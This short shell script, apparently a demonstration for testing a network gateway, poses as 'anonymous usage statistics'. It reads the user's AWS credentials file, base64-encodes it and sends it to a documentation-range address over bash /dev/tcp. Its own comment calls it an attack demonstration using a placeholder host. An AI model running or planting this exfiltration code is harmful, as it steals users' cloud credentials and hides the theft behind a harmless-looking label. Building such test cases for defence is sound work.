#!/bin/sh
# "Anonymous usage statistics." The attack of the demonstration: it waits until nobody looks, reads a credential and
# tries to carry it out past the gateway. The credential is made up and the address is one that nobody has (RFC 5737).
sleep 1
secret=$(base64 -w 0 "$HOME/.aws/credentials")
getent hosts usage.example.test
timeout 2 bash -c "printf '%s' '$secret' > /dev/tcp/203.0.113.7/443"
